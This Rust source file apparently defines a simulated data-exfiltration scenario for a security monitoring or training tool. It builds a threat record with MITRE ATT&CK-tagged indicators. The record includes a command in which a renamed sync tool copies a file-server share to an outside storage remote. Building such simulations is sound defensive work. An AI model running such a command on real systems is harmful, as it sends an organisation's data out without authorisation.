//! Design data is packed and copied to a storage service by a renamed synchronisation tool. Nothing is destroyed and
//! nothing is stopped; the data is leaving while one looks.

use crate::fleet::Role;
use crate::scenario::{Cast, Scenario, Step, at};
use crate::threat::{Change, Engine, Threat, indicator};

pub(crate) const SCENARIO: Scenario =
    Scenario { name: "exfiltration", about: "company data is packed and copied to an outside storage service", steps };

fn steps(cast: &mut Cast<'_>) -> Vec<Step> {
    let host = cast.host(Role::Desktop, 4);
    let server = cast.host(Role::FileServer, 0);
    let share = cast.say("設計図面", "Designs");
    let threat = Threat::new(&host, "wuauclt_sync.exe", Engine::Behavioral)
        .path(r"\Device\HarddiskVolume3\ProgramData\Sync\wuauclt_sync.exe")
        .hashed_from("exfiltration sync tool")
        .classified("Infostealer")
        .ran(
            &format!(r"C:\ProgramData\Sync\wuauclt_sync.exe copy \\{server}\{share} box:archive --transfers 16"),
            "powershell.exe",
        )
        .indicator(indicator(
            "InfoStealer",
            "A large amount of data was sent to a storage service.",
            &[44],
            &[("Exfiltration", &["T1567.002"])],
        ))
        .indicator(indicator(
            "InfoStealer",
            "Many documents were read from a network share.",
            &[45],
            &[("Collection", &["T1039", "T1119"])],
        ));
    let more = Change::new()
        .indicator(indicator(
            "InfoStealer",
            "Data was packed into encrypted archives.",
            &[46],
            &[("Collection", &["T1560.001"])],
        ))
        .indicator(indicator(
            "InfoStealer",
            "Data was also sent over another encrypted protocol.",
            &[47],
            &[("Exfiltration", &["T1048.002"])],
        ));
    vec![at(0.0).raise("sync", threat), at(5.0).change("sync", more)]
}
